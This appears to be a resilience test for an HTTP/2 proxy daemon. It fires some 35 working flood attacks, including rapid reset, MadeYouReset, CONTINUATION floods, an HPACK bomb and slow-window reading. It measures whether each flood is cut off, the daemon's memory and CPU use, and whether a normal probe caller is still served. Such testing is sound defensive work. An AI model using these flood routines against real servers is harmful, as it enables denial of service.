"""HTTP/2 floods (P-22). Each ends in a closed connection, in reset streams, or in a connection that waits for its
caller, within a bound of frames and time; whatever goes on to its end has cost less than a second of processor time for
each of its connections.
The daemon's memory grows by at most 32 MiB over all of them, and other callers are served meanwhile.
"""

import asyncio
import struct
import time

import h2
import process
import program
from caller import Caller

PATH = b"/api/now/table/flood"
GROWTH_KIB_MAX = 32 * 1024
# A flood that was not ended by then has gone on to its end.
SECONDS_MAX, FRAMES_MAX = 3, 50_000
PROCESSOR_S_MAX = 1.0
PROBE_EVERY_S, PROBE_S_MAX = 0.05, 3.0
BATCH = 64  # sequences of frames in one write
PACED_CONNECTIONS = 5


class Flood:
    """One attacking connection, which counts what it sent."""

    def __init__(self, connection, key, proxy):
        self.connection, self.sent, self.key, self.proxy = connection, 0, key, proxy
        self.siblings = []
        self.deadline = time.monotonic() + SECONDS_MAX

    def fields(self, method=b"GET", path=PATH):
        return h2.block([(b":method", method), (b":scheme", b"http"), (b":authority", b"b.example"), (b":path", path), (b"authorization", b"Bearer " + self.key)])

    def headers(self, flags, method=b"GET", path=PATH):
        stream = self.connection.stream()
        return stream, h2.frame(h2.HEADERS, flags, stream, self.fields(method, path))

    async def sibling(self):
        """The same attack on one more connection."""
        flood = Flood(await h2.Connection.open(self.proxy), self.key, self.proxy)
        flood.deadline = self.deadline
        self.siblings.append(flood)
        return flood

    async def paced(self, per_second, step):
        """`step(flood)` so often each second on each of a few connections, for as long as a flood may take. Each is
        steady, and of one alone nobody would say that it floods."""
        floods = [self, *[await self.sibling() for _ in range(PACED_CONNECTIONS - 1)]]

        async def one(flood):
            begun, done = time.monotonic(), 0
            while time.monotonic() < flood.deadline:
                await step(flood)
                done += 1
                await asyncio.sleep(max(0, begun + done / per_second - time.monotonic()))
                if flood.connection.ended or flood.connection.goaway is not None:
                    raise h2.Ended

        ends = await asyncio.gather(*(one(flood) for flood in floods), return_exceptions=True)
        for end in ends:
            if end is not None and not isinstance(end, h2.Ended):
                raise end
        if all(isinstance(end, h2.Ended) for end in ends):
            raise h2.Ended

    async def open_post(self):
        stream, sent = self.headers(h2.END_HEADERS, b"POST")
        await self.send(sent, 1)
        return stream

    async def send(self, data, frames):
        await self.connection.send(data, max(0.05, self.deadline - time.monotonic()))
        self.sent += frames

    async def repeat(self, make, frames=1):
        """Sends what `make()` gives, over and over, until refused or at the bound."""
        while self.sent < FRAMES_MAX and time.monotonic() < self.deadline:
            await self.send(b"".join(make() for _ in range(BATCH)), BATCH * frames)
            await asyncio.sleep(0)
            if self.connection.ended or self.connection.goaway is not None:
                raise h2.Ended


async def rapid_reset(flood):
    def pair():
        stream, sent = flood.headers(5)
        return sent + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))

    await flood.repeat(pair, 2)


def reset(stream):
    return h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))


async def paced_reset(flood):
    """CVE-2023-44487, slowly: 200 requests a second on a connection, each reset as soon as it is sent."""

    async def step(flood):
        stream, sent = flood.headers(5)
        await flood.send(sent + reset(stream), 2)

    await flood.paced(200, step)


async def paced_reset_under_way(flood):
    """50 requests a second on a connection, each reset when the instance is at work on it."""

    async def step(flood):
        stream, sent = flood.headers(5, path=PATH + b"?delay=500")
        await flood.send(sent, 1)
        asyncio.get_running_loop().call_later(0.05, flood.connection.reply, reset(stream))
        flood.sent += 1

    await flood.paced(50, step)


async def paced_reset_of_posts(flood):
    """The same with bodies that are never whole."""

    async def step(flood):
        stream, sent = flood.headers(4, b"POST", PATH + b"?delay=500")
        await flood.send(sent + h2.frame(h2.DATA, 0, stream, bytes(2_000)), 2)
        asyncio.get_running_loop().call_later(0.05, flood.connection.reply, reset(stream))
        flood.sent += 1

    await flood.paced(50, step)


async def made_you_reset(flood):
    """CVE-2025-8671: the server is made to reset what it works on."""

    def pair():
        stream, sent = flood.headers(5)
        return sent + h2.frame(h2.WINDOW_UPDATE, 0, stream, bytes(4))

    await flood.repeat(pair, 2)


async def made_you_reset_by_overflow(flood):
    def pair():
        stream, sent = flood.headers(4, b"POST")
        return sent + h2.frame(h2.WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")

    await flood.repeat(pair, 2)


async def malformed_requests(flood):
    """Each is a stream error, which the server answers with a reset."""

    def one():
        stream = flood.connection.stream()
        return h2.frame(h2.HEADERS, 5, stream, flood.fields() + h2.literal(b"X-Upper", b"a"))

    await flood.repeat(one)


async def continuation(flood):
    stream = flood.connection.stream()
    await flood.send(h2.frame(h2.HEADERS, 1, stream, flood.fields()), 1)
    await flood.repeat(lambda: h2.frame(h2.CONTINUATION, 0, stream, h2.literal(b"x-a", b"a" * 1000)))


async def continuation_of_nothing(flood):
    stream = flood.connection.stream()
    await flood.send(h2.frame(h2.HEADERS, 1, stream, flood.fields()), 1)
    await flood.repeat(lambda: h2.frame(h2.CONTINUATION, 0, stream))


async def continuation_of_crumbs(flood):
    """CVE-2024-27316 and its siblings, with fields that are never whole."""
    stream = flood.connection.stream()
    await flood.send(h2.frame(h2.HEADERS, 1, stream, flood.fields() + b"\x00" + h2.integer(1 << 20, 7)), 1)
    await flood.repeat(lambda: h2.frame(h2.CONTINUATION, 0, stream, b"a"))


async def settings(flood):
    await flood.repeat(lambda: h2.settings((h2.INITIAL_WINDOW_SIZE, 65_535)))


async def settings_of_many(flood):
    await flood.repeat(lambda: h2.settings(*[(0xF000 + n, n) for n in range(500)]))


async def settings_unread(flood):
    flood.connection.read_no_more()
    await settings(flood)


async def settings_table_size(flood):
    sizes = iter(range(1 << 30))
    await flood.repeat(lambda: h2.settings((h2.HEADER_TABLE_SIZE, next(sizes) % 4096)))


async def ping(flood):
    await flood.repeat(lambda: h2.frame(h2.PING, 0, 0, bytes(8)))


async def ping_unread(flood):
    flood.connection.read_no_more()
    await ping(flood)


async def empty_data(flood):
    stream = await flood.open_post()
    await flood.repeat(lambda: h2.frame(h2.DATA, 0, stream))


async def padded_data(flood):
    stream = await flood.open_post()
    await flood.repeat(lambda: h2.frame(h2.DATA, h2.PADDED, stream, b"\xff" + bytes(255)))


async def priority(flood):
    streams = iter(range(1, 1 << 31, 2))
    await flood.repeat(lambda: h2.frame(h2.PRIORITY, 0, next(streams), struct.pack(">IB", 0, 255)))


async def window_of_nothing(flood):
    stream = await flood.open_post()
    await flood.repeat(lambda: h2.frame(h2.WINDOW_UPDATE, 0, stream, bytes(4)))


async def window_by_ones(flood):
    await flood.repeat(lambda: h2.frame(h2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


async def unknown_frames(flood):
    await flood.repeat(lambda: h2.frame(0xFA, 0xFF, 0, bytes(64)))


async def unknown_frames_on_streams(flood):
    stream = await flood.open_post()
    await flood.repeat(lambda: h2.frame(0xFB, 0, stream))


async def reset_again(flood):
    stream = await flood.open_post()
    await flood.repeat(lambda: h2.frame(h2.RST_STREAM, 0, stream, bytes(4)))


async def goaway(flood):
    await flood.repeat(lambda: h2.frame(h2.GOAWAY, 0, 0, bytes(8) + b"x" * 512))


async def hpack_bomb(flood):
    """One field of 4 KiB in the dynamic table, named a few thousand times in each request."""
    big = h2.literal(b"x-b", b"b" * 3900, 0x40, 6)
    first = True

    def one():
        nonlocal first
        stream = flood.connection.stream()
        block = flood.fields() + (big if first else b"") + b"\xbe" * 8000
        first = False
        return h2.frame(h2.HEADERS, 5, stream, block)

    await flood.repeat(one)


async def hpack_evictions(flood):
    """Table size updates and insertions, each of which evicts."""

    def one():
        stream = flood.connection.stream()
        return h2.frame(h2.HEADERS, 5, stream, h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20) + flood.fields() + b"".join(h2.literal(b"x-%d" % n, b"v" * 100, 0x40, 6) for n in range(100)))

    await flood.repeat(one)


async def large_fields(flood):
    """Fields of 1 MiB, whole, again and again."""

    def one():
        stream = flood.connection.stream()
        pieces = [h2.literal(b"x-%d" % n, b"v" * 15_000) for n in range(70)]
        return h2.frame(h2.HEADERS, 1, stream, flood.fields()) + b"".join(
            h2.frame(h2.CONTINUATION, h2.END_HEADERS if piece is pieces[-1] else 0, stream, piece) for piece in pieces
        )

    await flood.repeat(one, 71)


async def thousand_streams(flood):
    """More at once than the server said that it takes."""
    for _ in range(1000):
        await flood.send(flood.headers(4, b"POST")[1], 1)
    await flood.connection.until(lambda: len(flood.connection.resets) >= 900 or flood.connection.is_over(), 5)
    if len(flood.connection.resets) < 900:
        raise AssertionError(f"1,000 streams at once: {len(flood.connection.resets)} were refused")


async def unfinished_posts(flood):
    """Streams that begin a body and say nothing more, as many as there may be."""
    for _ in range(90):
        stream, sent = flood.headers(4, b"POST")
        await flood.send(sent + h2.frame(h2.DATA, 0, stream, b"x" * 100), 2)
    # Their time runs out as that of a slow body does.
    connection = flood.connection
    if not await connection.until(lambda: connection.ended or len(connection.resets) + len(connection.answers) >= 90, 20):
        raise AssertionError(f"90 unfinished posts: {len(connection.resets)} resets, {len(connection.answers)} answers")


async def slow_reading(flood):
    """A hundred large answers, and no window to send them in."""
    await flood.send(h2.settings((h2.INITIAL_WINDOW_SIZE, 1)), 1)
    for _ in range(90):
        await flood.send(flood.headers(5, path=PATH + b"?big=1000000")[1], 1)
    connection = flood.connection
    if not await connection.until(lambda: connection.ended or connection.goaway is not None or len(connection.resets) >= 90, 20):
        raise AssertionError(f"90 answers without a window: {len(connection.resets)} resets")


async def read_by_windows(flood, bytes_each, pause_s, streams):
    """Large answers, of each of which so many bytes are asked for at a time."""
    connection = flood.connection
    await flood.send(h2.settings((h2.INITIAL_WINDOW_SIZE, bytes_each)), 1)
    asked = [flood.headers(5, path=PATH + b"?big=1000000") for _ in range(streams)]
    for _, sent in asked:
        await flood.send(sent, 1)
    wider = struct.pack(">I", bytes_each)
    while time.monotonic() < flood.deadline and not connection.is_over():
        await asyncio.sleep(pause_s)
        frames = [h2.frame(h2.WINDOW_UPDATE, 0, stream, wider) for stream, _ in asked]
        await flood.send(b"".join(frames) + h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", bytes_each * streams)), streams + 1)
    if connection.is_over():
        raise h2.Ended
    # Not cut: then it was served, and no more of it than was asked for is anywhere.
    if not all(connection.bodies.get(stream) for stream, _ in asked):
        raise AssertionError("neither cut off nor served")


async def window_by_chunks(flood):
    """A window of one chunk, opened again before the limit on silence has passed."""
    await read_by_windows(flood, 16_384, 0.5, 90)


async def window_by_bytes(flood):
    """A window of one byte, opened often, on many streams."""
    await read_by_windows(flood, 1, 0.02, 90)


async def window_by_bytes_slowly(flood):
    """So few frames that they may be sent for ever: what cuts it is that no chunk of the answers is taken whole."""
    flood.deadline += 1
    await read_by_windows(flood, 1, 0.1, 5)


async def silent(flood):
    """Nothing after the preface."""
    if not await flood.connection.until(lambda: flood.connection.ended or flood.connection.goaway is not None, 20):
        raise AssertionError("a silent connection was kept for 20 s")


FLOODS = [
    rapid_reset, paced_reset, paced_reset_under_way, paced_reset_of_posts, window_by_chunks, window_by_bytes, window_by_bytes_slowly, made_you_reset, made_you_reset_by_overflow, malformed_requests, continuation, continuation_of_nothing, continuation_of_crumbs, settings, settings_of_many, settings_unread, settings_table_size, ping, ping_unread, empty_data,
    padded_data, priority, window_of_nothing, window_by_ones, unknown_frames, unknown_frames_on_streams, reset_again, goaway, hpack_bomb, hpack_evictions, large_fields, thousand_streams, unfinished_posts, slow_reading, silent,
]


class Probe:
    """A good caller: one call every 50 ms over HTTP/1.1, each on its way whatever became of the others."""

    def __init__(self, given):
        self.given, self.good, self.slowest, self.bad = given, 0, 0.0, []
        self.task = asyncio.ensure_future(self.run())

    async def run(self):
        calls = set()
        try:
            while True:
                call = asyncio.ensure_future(self.call())
                calls.add(call)
                call.add_done_callback(calls.discard)
                await asyncio.sleep(PROBE_EVERY_S)
        finally:
            await asyncio.gather(*calls)

    async def call(self):
        begun = time.monotonic()
        try:
            caller = await Caller.connect(self.given.proxy)
            await caller.send([b"GET %b HTTP/1.1\r\nHost: b\r\nAuthorization: Bearer %b\r\n\r\n" % (PATH, self.given.key.encode())])
            answer = await caller.take(b"GET", PROBE_S_MAX)
            caller.close()
        except (OSError, TimeoutError) as error:
            self.bad.append(repr(error))
            return
        took = time.monotonic() - begun
        self.slowest = max(self.slowest, took)
        if answer is not None and answer.status == 200:
            self.good += 1
        else:
            self.bad.append(repr(answer))

    async def stop(self):
        self.task.cancel()
        try:
            await self.task
        except asyncio.CancelledError:
            pass


async def main():
    given = program.arguments(__doc__, pid=(0, "the daemon's process"), only=("", "only floods whose name holds this"))
    begun = time.monotonic()
    judge = await program.start(given)
    judge.flooded = lambda path: path == PATH
    if not await program.speaks_h2(given):
        judge.find("the proxy door does not speak HTTP/2 by prior knowledge", h2.PREFACE)
        return program.report(judge, begun)
    probe = Probe(given)
    await asyncio.sleep(1)
    base = peak = process.resident_kib(given.pid)
    rows = []
    for attack in FLOODS:
        if given.only not in attack.__name__:
            continue
        row, seen = await one(given, attack)
        peak = max(peak, seen)
        rows.append(row)
        if row["outcome"].startswith("failed"):
            judge.find(f"{row['flood']}: {row['outcome']}", b"")
        if row["outcome"] == "went on" and row["processor_s"] > PROCESSOR_S_MAX * row["connections"]:
            judge.find(f"{row['flood']}: went on to its end", b"", repr(row))
    await probe.stop()
    if peak - base > GROWTH_KIB_MAX:
        judge.find("memory grew too much", b"", f"{peak - base} KiB")
    if probe.bad:
        judge.find("a good caller was not served", b"", f"{len(probe.bad)} of {len(probe.bad) + probe.good}: {probe.bad[0]}")
    probes = {"good": probe.good, "bad": len(probe.bad), "slowest_ms": round(probe.slowest * 1000)}
    program.report(judge, begun, floods=rows, grown_kib=peak - base, probes=probes)


async def one(given, attack):
    """Runs a flood; gives what became of it and the most memory that the daemon had meanwhile."""
    processor, begun = process.processor_s(given.pid), time.monotonic()
    connection = await h2.Connection.open(given.proxy_h2)
    flood = Flood(connection, given.key.encode(), given.proxy_h2)
    running = asyncio.ensure_future(attack(flood))
    peak = 0
    while not running.done():
        peak = max(peak, process.resident_kib(given.pid))
        await asyncio.wait([running], timeout=0.02)
    outcome = "went on"
    try:
        running.result()
    except h2.Ended:
        pass
    except TimeoutError:
        outcome = "made to wait"
    except AssertionError as error:
        outcome = f"failed: {error}"
    await connection.until(lambda: connection.ended or connection.goaway is not None, 0.3)
    if outcome == "went on" and (connection.ended or connection.goaway is not None):
        outcome = "closed"
    row = {
        "flood": attack.__name__,
        "outcome": outcome,
        "goaway": connection.goaway,
        "connections": 1 + len(flood.siblings),
        "frames": flood.sent + sum(sibling.sent for sibling in flood.siblings),
        "resets": len(connection.resets),
        "seconds": round(time.monotonic() - begun, 2),
        "processor_s": round(process.processor_s(given.pid) - processor, 2),
        "peak_kib": peak,
    }
    for opened in [connection, *(sibling.connection for sibling in flood.siblings)]:
        opened.close()
    return row, peak


if __name__ == "__main__":
    program.run(main())
